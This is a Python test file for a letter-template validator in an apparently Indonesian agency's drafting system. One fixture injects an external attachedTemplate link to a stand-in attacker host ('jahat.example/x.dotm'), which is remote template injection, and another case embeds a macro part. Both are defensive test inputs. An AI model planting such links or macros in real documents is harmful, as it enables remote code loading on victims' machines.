"""An agency's own layout of a letter: checked by filling it, used from then on, given back."""

from __future__ import annotations

import asyncio
import io
import zipfile
from pathlib import Path

import docx
import pytest
from sqlalchemy import select
from typer.testing import CliRunner

from backend.applications import room
from backend.applications.docx import TEMPLATE
from backend.applications.laying_out import template_faults
from backend.applications.models import LetterTemplate
from backend.applications.service import layouts
from backend.cli import app
from backend.identity.models import AGENCY
from tests.applications.samples import FILES, service
from tests.applications.test_outputs import asking, get, party_case, verified
from tests.applications.town import Town
from tests.files.conftest import archive
from tests.files.conftest import docx as least
from tests.support.in_process import served

SISAKAT = service(FILES[1])
[SKT] = SISAKAT.letters


def laid_out(*paragraphs: str, row: tuple[str, ...] = ("{line.label}", "{line.value}")) -> bytes:
    """A Word file with these paragraphs and a table row."""
    made, out = docx.Document(), io.BytesIO()
    for text in paragraphs:
        made.add_paragraph(text)
    cells = made.add_table(1, len(row)).rows[0].cells
    for cell, text in zip(cells, row, strict=True):
        cell.text = text
    made.save(out)
    return out.getvalue()


def with_part(data: bytes, name: str, old: bytes, new: bytes) -> bytes:
    """The same file with something replaced in one part."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as before, zipfile.ZipFile(out, "w") as made:
        for entry in before.infolist():
            content = before.read(entry)
            made.writestr(entry.filename, content.replace(old, new) if entry.filename == name else content)
    return out.getvalue()


GOOD = laid_out(
    "KOP {agency.name}", "Nomor {number}", "{signer.name}", "${ttd_pengirim}", "{place}{date}", "{subject.name}"
)
FOREIGN = with_part(
    GOOD, "word/_rels/document.xml.rels", b"</Relationships>",
    b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"'
    b' Target="https://jahat.example/x.dotm" TargetMode="External"/></Relationships>',
)  # fmt: skip
BOXED = with_part(
    GOOD, "word/document.xml", b"<w:sectPr",
    b'<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml"><v:textbox><w:txbxContent><w:p><w:r><w:t>'
    b"{agency.address}</w:t></w:r></w:p></w:txbxContent></v:textbox></v:shape></w:pict></w:r></w:p><w:sectPr",
)  # fmt: skip


@pytest.mark.parametrize(
    ("data", "codes", "said"),
    [
        (TEMPLATE.read_bytes(), [], ""),
        (GOOD, [], ""),
        (laid_out("{date} {signature}"), ["TEMPLATE_OPEN"], "{number} (nomor_naskah) belum ada"),
        (laid_out("{number} {number} {date} {signature}"), ["TEMPLATE_OPEN"], "ada 2 kali"),
        (laid_out("{number} {date} {signature} {pangkat.lama}"), ["TEMPLATE_NAME"], "{pangkat.lama} tidak dikenal"),
        (laid_out("{number} {date} {signature}", row=("{line.label}",)), ["TEMPLATE_LINES"], "{line.value} belum ada"),
        (laid_out("{number} {date} {signature}", row=("kosong",)), ["TEMPLATE_LINES"], "tidak punya baris"),
        (FOREIGN, ["TEMPLATE_FOREIGN"], "alamat luar"),
        (BOXED, ["TEMPLATE_PLACE"], "kotak teks"),
        (least(), ["TEMPLATE_TYPE"], "tidak terbaca"),
        (least(word__vbaProject_bin=b"x").replace(b"vbaProject_bin", b"vbaProject.bin"), ["TEMPLATE_TYPE"], "makro"),
        (b"%PDF-1.7\n%%EOF", ["TEMPLATE_TYPE"], "bukan berkas Word"),
        (archive(a=b"x"), ["TEMPLATE_TYPE"], "bukan berkas Word"),
        (b"PK\x03\x04" + bytes(1_000_000), ["TEMPLATE_SIZE"], "1 MB"),
    ],
)  # fmt: skip
def test_a_layout_is_judged_by_filling_it(data: bytes, codes: list[str], said: str) -> None:
    found = template_faults(SISAKAT, SKT, data)
    assert [one.code for one in found] == codes, [str(one) for one in found]
    assert said in "".join(one.text for one in found)


async def test_a_draft_is_laid_out_as_the_agency_wants_it(town: Town) -> None:
    """From the next draft on; the same file is no new version; the house's own comes back when it is taken away."""
    _, case = await party_case(town)
    await verified(town, case)

    async def drafted() -> list[str]:
        async with asking(town) as client:
            answer = await get(client, "super_layanan", f"/permohonan-berkas/{case}/draf/SKT")
        assert answer.status_code == 200, answer.text
        return [one.text for one in docx.Document(io.BytesIO(answer.content)).paragraphs]

    async def use(content: bytes | None) -> int:
        async with town.engine.writing(town.agency) as w:
            return await layouts.put(w, "sisakat", "SKT", content)

    assert "SURAT KETERANGAN TERDAFTAR" in await drafted()
    assert [await use(GOOD), await use(GOOD)] == [1, 1]
    own = await drafted()
    assert own[:2] == ["KOP Pemerintah Kabupaten Sekar Rimba", "Nomor ${nomor_naskah}"]
    assert own[-1] == "Partai Bintang Fajar Sukaraya"
    assert await use(laid_out("{number} {date} {signature} baru")) == 2
    assert (await drafted())[0].endswith("baru")
    assert await use(None) == 0
    assert "SURAT KETERANGAN TERDAFTAR" in await drafted()
    assert sorted(one.version for one in await town.rows(LetterTemplate)) == [1, 2]


def test_an_operator_places_a_layout(
    sqlite_office: tuple[str, Path], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """``sambung services letter``: what is wrong is said and changes nothing; names that do not exist too."""

    async def prepare() -> str:
        async with served(*sqlite_office, tmp_path) as (house, _):
            async with house.db.reading() as connection:
                row = (await connection.execute(select(AGENCY.c.id, AGENCY.c.code).order_by(AGENCY.c.id))).first()
            assert row is not None
            async with house.engine.writing(row.id) as w:
                await room.install(w, ("sisakat",))
            return str(row.code)

    agency = asyncio.run(prepare())
    monkeypatch.setenv("DATABASE_URL", sqlite_office[0])
    monkeypatch.setenv("SAMBUNG_KEYS_FILE", str(tmp_path / "keys.json"))
    monkeypatch.setenv("SAMBUNG_DATA_DIR", str(tmp_path / "data"))
    good, wrong = tmp_path / "baik.docx", tmp_path / "salah.docx"
    good.write_bytes(GOOD)
    wrong.write_bytes(laid_out("{number} {date}"))

    def place(*args: str, letter: str = "SKT", of: str = agency) -> tuple[int, str]:
        named = ["--agency", of, "--service", "sisakat", "--letter", letter]
        done = CliRunner().invoke(app, ["services", "letter", *named, *args])
        return done.exit_code, done.output

    code, said = place(str(wrong))
    assert (code, "{signature}" in said, "Tidak ada yang berubah." in said) == (1, True, True)
    assert place(str(good), letter="SURAT")[0] == place(str(good), of="TIADA")[0] == 1
    code, said = place(str(good))
    assert (code, said.strip().splitlines()[-1]) == (0, "SKT: versi 1")
    code, said = place()
    assert (code, said.strip().splitlines()[-1]) == (0, "SKT: naskah bawaan")
